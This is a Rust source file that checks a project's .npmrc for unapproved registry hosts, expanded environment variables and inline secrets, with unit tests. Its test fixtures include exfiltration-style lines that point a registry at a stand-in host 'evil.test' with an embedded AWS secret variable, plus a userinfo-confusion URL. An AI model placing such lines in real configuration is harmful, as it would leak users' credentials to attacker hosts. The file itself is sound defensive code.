// SPDX-License-Identifier: MIT
//! The lines of an `.npmrc` that decide which hosts packages come from and what is sent there.
//!
//! Invariant: pure. No variable is expanded here; who may expand one is judged by whose file it is.

use std::path::{Path, PathBuf};

/// One line that matters here.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Setting {
    /// The line, from 1.
    pub line: u32,
    /// What stands before the `=`.
    pub key: String,
    /// What stands behind it, without quotes.
    pub value: String,
}

impl Setting {
    /// Whether it names a registry, of everything or of one scope.
    pub fn is_registry(&self) -> bool {
        self.key == "registry" || self.key.starts_with('@') && self.key.ends_with(":registry")
    }

    /// Whether its value is a secret itself: a token or a password that is no variable.
    pub fn is_secret(&self) -> bool {
        let name = self.key.rsplit(':').next().unwrap_or_default();
        let secret = ["_auth", "_authToken", "_password"]
            .iter()
            .any(|known| name.eq_ignore_ascii_case(known));
        secret && !self.value.is_empty() && !self.value.starts_with("${")
    }

    /// The names of the variables in key and value: `${NAME}`, or `${NAME?}` where an absent one is
    /// nothing.
    pub fn variables(&self) -> Vec<String> {
        let mut names = Vec::new();
        for text in [&self.key, &self.value] {
            let mut rest = text.as_str();
            while let Some((_, behind)) = rest.split_once("${") {
                let Some((name, after)) = behind.split_once('}') else {
                    break;
                };
                names.push(name.trim_end_matches('?').to_owned());
                rest = after;
            }
        }
        names
    }
}

/// A project's `.npmrc` that may not be followed: its author is not the user.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum NpmrcError {
    /// It would send a variable of the user to a host.
    #[error("{path}:{line}: `{key}` would send the variable `{variable}` to a package registry", path = path.display())]
    Variable {
        /// The file.
        path: PathBuf,
        /// The line, from 1.
        line: u32,
        /// The setting.
        key: String,
        /// The variable.
        variable: String,
    },
    /// It names a host the user did not name.
    #[error("{path}:{line}: `{key}` names the host `{host}`, which nobody allowed", path = path.display())]
    Host {
        /// The file.
        path: PathBuf,
        /// The line, from 1.
        line: u32,
        /// The setting.
        key: String,
        /// The host, with its port when that is not the scheme's own.
        host: String,
    },
    /// It holds a secret, and the runner does not start when it cannot read the file.
    #[error("{path}:{line}: `{key}` is a secret that the program could read", path = path.display())]
    Secret {
        /// The file.
        path: PathBuf,
        /// The line, from 1.
        line: u32,
        /// The setting.
        key: String,
    },
    /// Its value is no URL.
    #[error("{path}:{line}: the value of `{key}` is no http or https URL", path = path.display())]
    Url {
        /// The file.
        path: PathBuf,
        /// The line, from 1.
        line: u32,
        /// The setting.
        key: String,
    },
}

impl NpmrcError {
    /// What would help.
    pub fn hint(&self) -> Option<String> {
        match self {
            Self::Variable { .. } => {
                Some("put the line into the `.npmrc` of your home directory: that one is yours, and its variables are filled in".to_owned())
            }
            Self::Host { host, .. } => Some(format!(
                "`--allow-import={host}` allows it, or put the line into the `.npmrc` of your home directory"
            )),
            Self::Secret { path, .. } => Some(format!(
                "move the line into the `.npmrc` of your home directory, which the program does not read, or grant the file: `--allow-read={}`",
                path.display()
            )),
            Self::Url { .. } => None,
        }
    }
}

/// Reads the settings of one file; lines that are none are skipped, as npm does.
pub fn parse(text: &str) -> Vec<Setting> {
    let mut settings = Vec::new();
    for (index, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with([';', '#', '[']) {
            continue;
        }
        let Some((key, value)) = line.split_once('=') else {
            continue;
        };
        let value = value.trim();
        let unquoted = ['"', '\'']
            .iter()
            .find_map(|quote| value.strip_prefix(*quote)?.strip_suffix(*quote));
        settings.push(Setting {
            line: u32::try_from(index).unwrap_or(u32::MAX).saturating_add(1),
            key: key.trim().to_owned(),
            value: unquoted.unwrap_or(value).to_owned(),
        });
    }
    settings
}

/// Judges a project's file: it may name only hosts that `allowed` knows, and no variable.
///
/// # Errors
/// The first line that may not be followed.
pub fn judge(
    path: &Path,
    settings: &[Setting],
    allowed: &dyn Fn(&str) -> bool,
) -> Result<(), NpmrcError> {
    for setting in settings {
        let (path, line, key) = (path.to_owned(), setting.line, setting.key.clone());
        if let Some(variable) = setting.variables().into_iter().next() {
            return Err(NpmrcError::Variable {
                path,
                line,
                key,
                variable,
            });
        }
        if !setting.is_registry() {
            continue;
        }
        let Some(host) = host_of(&setting.value) else {
            return Err(NpmrcError::Url { path, line, key });
        };
        if !allowed(&host) {
            return Err(NpmrcError::Host {
                path,
                line,
                key,
                host,
            });
        }
    }
    Ok(())
}

/// Judges whether a project's file may be shown to the program.
///
/// # Errors
/// The first line that is a secret.
pub fn judge_readable(path: &Path, settings: &[Setting]) -> Result<(), NpmrcError> {
    match settings.iter().find(|setting| setting.is_secret()) {
        None => Ok(()),
        Some(setting) => Err(NpmrcError::Secret {
            path: path.to_owned(),
            line: setting.line,
            key: setting.key.clone(),
        }),
    }
}

/// `host:port` of an http or https URL, as a net rule writes it; the scheme's own port is added.
pub fn host_of(url: &str) -> Option<String> {
    let (scheme, rest) = url.split_once("://")?;
    let own = match scheme.to_ascii_lowercase().as_str() {
        "https" => 443,
        "http" => 80,
        _ => return None,
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host = authority
        .rsplit_once('@')
        .map_or(authority, |(_, host)| host);
    if host.is_empty() || host.contains(['\\', ' ', '$']) {
        return None;
    }
    let has_port = host
        .rsplit_once(':')
        .is_some_and(|(_, port)| !port.contains(']'));
    let text = if has_port {
        host.to_owned()
    } else {
        format!("{host}:{own}")
    };
    Some(text.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judged(text: &str) -> String {
        match judge(Path::new("/w/.npmrc"), &parse(text), &|host| {
            host == "own.test:443"
        }) {
            Ok(()) => "followed".to_owned(),
            Err(error) => error.to_string(),
        }
    }

    #[test]
    fn a_projects_file_sends_nothing_of_the_user() {
        assert_eq!(
            judged("registry=http://evil.test/${AWS_SECRET_ACCESS_KEY}/"),
            "/w/.npmrc:1: `registry` would send the variable `AWS_SECRET_ACCESS_KEY` to a package registry"
        );
        assert_eq!(
            judged("; comment\n\n//own.test/:_authToken = \"${GITHUB_TOKEN?}\""),
            "/w/.npmrc:3: `//own.test/:_authToken` would send the variable `GITHUB_TOKEN` to a package registry"
        );
        assert_eq!(
            judged("//${A}/:always-auth=true"),
            "/w/.npmrc:1: `//${A}/:always-auth` would send the variable `A` to a package registry"
        );
    }

    #[test]
    fn a_projects_file_names_allowed_hosts_only() {
        assert_eq!(judged("registry=https://own.test/npm/"), "followed");
        assert_eq!(judged("@mine:registry = 'https://own.test'"), "followed");
        assert_eq!(
            judged("@mine:registry=https://evil.test/"),
            "/w/.npmrc:1: `@mine:registry` names the host `evil.test:443`, which nobody allowed"
        );
        assert_eq!(
            judged("registry=ftp://own.test/"),
            "/w/.npmrc:1: the value of `registry` is no http or https URL"
        );
        assert_eq!(judged("fund=false\n[section]\nnothing"), "followed");
    }

    #[test]
    fn secrets_are_tokens_that_are_no_variables() {
        let judged = |text: &str| judge_readable(Path::new("/w/.npmrc"), &parse(text)).is_ok();
        assert!(judged(
            "//a.test/:_authToken=${TOKEN}\nregistry=https://a.test/"
        ));
        for text in [
            "//a.test/:_authToken=abc",
            "_auth = abc",
            "//a.test/x/:_password=\"abc\"",
        ] {
            assert!(!judged(text), "{text}");
        }
    }

    #[test]
    fn hosts_have_ports() {
        for (url, host) in [
            ("https://a.test", Some("a.test:443")),
            ("http://A.test:4873/x", Some("a.test:4873")),
            ("http://[::1]:81/", Some("[::1]:81")),
            ("https://[::1]/", Some("[::1]:443")),
            ("https://user:word@a.test/", Some("a.test:443")),
            ("https://a.test@evil.test/", Some("evil.test:443")),
            ("file:///a", None),
            ("https:///a", None),
            ("a.test", None),
        ] {
            assert_eq!(host_of(url).as_deref(), host, "{url}");
        }
    }
}
